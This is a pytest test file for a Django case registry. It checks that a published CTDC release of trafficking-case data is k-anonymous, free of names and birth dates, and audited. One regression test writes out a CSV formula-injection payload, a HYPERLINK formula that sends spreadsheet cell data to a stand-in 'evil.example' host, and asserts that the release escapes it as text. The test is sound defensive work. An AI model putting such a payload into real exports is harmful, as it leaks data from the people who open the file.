"""The CTDC release of Nicat's cases is k-anonymous, carries nothing identifying, and is audited."""
import csv
import datetime
import io
from collections import Counter

import pytest
from django.core.management import call_command
from django.utils import timezone

from nicat.audit.models import AuditEvent
from nicat.statistics.release import COLUMNS, anonymise
from tests.support.world import term

# Checked independently of the code under test: every column a reader could link to other knowledge.
QUASI = ["yearOfRegistration", "gender", "ageBroad", "majorityStatus", "majorityStatusAtExploit", "citizenship",
         "isForcedLabour", "isSexualExploit", "isOtherExploit", "isSexAndLabour", "isForcedMarriage",
         "isForcedMilitary", "isOrganRemoval", "typeOfExploitConcatenated", "CountryOfExploitation"]


def _world(cast, n=40):
    countries = ["AZ", "TR", "AE", "RU"]
    for i in range(n):
        case = cast.open_case(first_contact_at=timezone.make_aware(datetime.datetime(2022 + i % 3, 5, 1, 12)))
        person = case.person
        person.gender = term("gender", "feminine" if i % 4 else "masculine")
        person.birth_date = datetime.date(1990 + i % 15, 1, 2)
        person.given_name = f"Secretname{i}"
        person.save()
        person.citizenships.add(term("country", countries[i % 4]))
        case.exploitation_forms.add(term("exploitation", "sexual_exploitation" if i % 3 else "forced_labour"))
        case.countries_of_exploitation.add(term("country", countries[(i + 1) % 4]))
    return cast


def _release(k, tmp_path):
    path = tmp_path / "release.csv"
    call_command("statistics", "release", "--format", "ctdc", "--k", str(k), str(path), stderr=io.StringIO())
    text = path.read_text(encoding="utf-8")
    return text, list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
@pytest.mark.parametrize("k", [2, 5, 11])
def test_every_combination_of_quasi_identifiers_occurs_at_least_k_times(cast, tmp_path, k):
    _world(cast)
    text, rows = _release(k, tmp_path)
    assert rows and list(rows[0]) == COLUMNS
    groups = Counter(tuple(r[c] for c in QUASI) for r in rows)
    assert min(groups.values()) >= k
    assert "Secretname" not in text and "NCT-" not in text  # no name, no reference
    assert "1990-01-02" not in text
    event = AuditEvent.objects.filter(action="statistics.release").latest("sequence")
    assert event.details["k"] == k and event.details["rows"] == len(rows)
    assert event.details["rows"] + event.details["left_out"] == 40


@pytest.mark.django_db
def test_a_small_k_keeps_more_detail_than_a_large_one(cast, tmp_path):
    _world(cast)
    _, loose = _release(2, tmp_path)
    _, strict = _release(11, tmp_path)
    detail = lambda rows: sum(1 for r in rows for c in QUASI if r[c] != "-99")  # noqa: E731
    assert detail(loose) > detail(strict)


def test_anonymise_leaves_out_rows_that_cannot_reach_k():
    row = dict.fromkeys(COLUMNS, "x")
    rows = [dict(row, yearOfRegistration=str(2000 + i)) for i in range(3)]
    result = anonymise(rows, k=5)
    assert result.rows == [] and result.left_out == 3


def test_anonymise_keeps_common_rows_whole():
    row = dict.fromkeys(COLUMNS, "1")
    result = anonymise([dict(row) for _ in range(12)], k=11)
    assert len(result.rows) == 12 and result.rows[0] == row and not result.blanked


@pytest.mark.django_db
def test_rows_shared_by_cases_alike_are_released_as_if_each_case_had_its_own(cast):
    """registry_rows() gives cases alike one row object and anonymise() works once per object: the release
    is the same, row for row and in order, as anonymising an own copy of every case's row."""
    from nicat.statistics.release import registry_rows

    _world(cast, n=64)  # the world repeats every 60 cases
    shared = list(registry_rows())
    assert len({id(r) for r in shared}) < len(shared)  # cases alike do share rows here
    own_copies = [dict(r) for r in shared]
    for k in (2, 5, 11):
        fast, plain = anonymise(shared, k=k), anonymise(own_copies, k=k)
        assert [dict(r) for r in fast.rows] == [dict(r) for r in plain.rows]
        assert (fast.cases, fast.left_out, fast.blanked) == (plain.cases, plain.left_out, plain.blanked)
        out_fast, out_plain = io.StringIO(), io.StringIO()
        from nicat.statistics.release import write_csv

        write_csv(fast, out_fast)
        write_csv(plain, out_plain)
        assert out_fast.getvalue() == out_plain.getvalue()


@pytest.mark.django_db
def test_a_code_that_looks_like_a_formula_is_text_in_the_release(cast, tmp_path):
    """Formula injection (review 2): the release is made of the vocabularies' CTDC codes, which the administrator
    edits; a code typed as `=HYPERLINK(…)` went into the published CSV as a formula that whoever opened it in a
    spreadsheet ran. It is text now; -99 (unknown) stays as the CTDC format writes it."""
    from nicat.vocab.models import Term

    payload = '=HYPERLINK("http://evil.example/?"&A1,"Female")'
    Term.objects.filter(vocabulary="gender", code="feminine").update(ctdc_code=payload)
    _world(cast)
    text, rows = _release(2, tmp_path)
    genders = {r["gender"] for r in rows}
    assert "'" + payload in genders and payload not in genders
    assert not [v for r in csv.reader(io.StringIO(text)) for v in r if v[:1] in ("=", "+", "@")]
    assert "-99" in {r["majorityStatusAtExploit"] for r in rows}
